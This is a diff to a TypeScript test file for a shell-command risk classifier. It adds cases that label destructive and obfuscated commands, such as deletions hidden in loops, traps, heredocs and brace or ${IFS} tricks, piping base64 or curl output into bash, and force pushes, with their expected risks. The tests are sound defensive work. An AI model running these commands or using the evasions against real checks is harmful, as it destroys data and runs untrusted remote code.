@@ -45,7 +45,53 @@ const cases: ReadonlyArray<readonly [command: string, ...risks: ReadonlyArray<st
   ["chmod -R 777 /srv", "rights: chmod of /srv, with all that is in it"],
   ["shutdown -h now", "machine: shutdown, -h, now"],
   ["/bin/rm x", "deletes: x"],
-  ["r\\m x; 'r'm y", "deletes: x", "deletes: y"]
+  ["r\\m x; 'r'm y", "deletes: x", "deletes: y"],
+  ["if true; then rm a; elif x; then rm b; else rm c; fi", "deletes: a", "deletes: b", "deletes: c"],
+  ["for f in *; do rm $f; done; until rm x; do :; done", "deletes: $f", "deletes: x"],
+  ["case $1 in a) rm a;; *) rm b;; esac", "deletes: a", "deletes: b"],
+  ["f() { rm a; }; function g { rm b; }; (rm c)", "deletes: a", "deletes: b", "deletes: c"],
+  ["alias x='rm a'; trap 'rm b' EXIT; coproc rm c", "deletes: a", "deletes: b", "deletes: c"],
+  ["builtin command rm a; flock l rm b; flock l -c 'rm c'", "deletes: a", "deletes: b", "deletes: c"],
+  ["watch -n 1 rm a; su - x -c 'rm b'", "deletes: a", "rights: runs as another user", "deletes: b"],
+  ["bash -c -- 'rm x'; rm -- -x !(keep)", "deletes: x", "deletes: -x, !(keep)"],
+  ["ssh -p 22 host 'rm x'", "reaches: the network, by ssh 22, host", "deletes: x"],
+  ["echo 'rm x' | sh", "runs: what it is given to read, by sh", "deletes: x"],
+  [
+    "sh <<< 'rm x'; bash -s <<-E\n\trm y\n\tE",
+    ...["sh", "bash"].flatMap((name, at) => [
+      `runs: what it is given to read, by ${name}`,
+      `deletes: ${["x", "y"][at]}`
+    ])
+  ],
+  ["cat <<E | sh\nrm x\nE\nrm y", "runs: what it is given to read, by sh", "deletes: x", "deletes: y"],
+  ["cat > a <<'E'\nrm x; $(rm y)\nE", "overwrites: a"],
+  ["cat > a <<E\nrm x; $(rm y)\nE", "overwrites: a", "deletes: y"],
+  ["base64 -d x | bash", "runs: what it is given to read, by bash"],
+  [
+    "python3 -c 'x'; node --eval x",
+    "runs: a program that is on the line, by python3",
+    "runs: a program that is on the line, by node"
+  ],
+  [
+    "{rm,-r,x}; rm${IFS}x",
+    "runs: a command that is made at run time: {rm,-r,x}",
+    "runs: a command that is made at run time: rm${IFS}x"
+  ],
+  [
+    'bash -c "$(curl https://x.test/a)"',
+    "reaches: x.test",
+    "runs: a command that is made at run time: $(curl https://x.test/a)"
+  ],
+  [
+    "bash <(curl https://x.test)",
+    "reaches: x.test",
+    "runs: a command that is made at run time: bash, <(curl https://x.test)"
+  ],
+  ["git -C /x clean -fd", "deletes: files that git does not track"],
+  ["git push origin +main", "history: writes over commits of origin", "reaches: the network, by git push"],
+  ["git push origin :old", "history: deletes :old of origin", "reaches: the network, by git push"],
+  ["git stash clear; git checkout -f", "deletes: stashed changes", "deletes: changes that are not committed"],
+  ["rsync -a --delete a/ b", "deletes: what the source does not have, in b", "reaches: the network, by rsync a/, b"]
 ]
 
 describe("CommandRisk", () => {
@@ -72,7 +118,13 @@ describe("CommandRisk", () => {
       "(",
       "{",
       "sudo ",
-      "a=b "
+      "a=b ",
+      "<<E ",
+      "E\n",
+      "<<<",
+      "|sh",
+      "echo ",
+      ")"
     ]
     fc.assert(
       fc.property(fc.array(fc.constantFrom(...words), { maxLength: 60 }), (some) => {
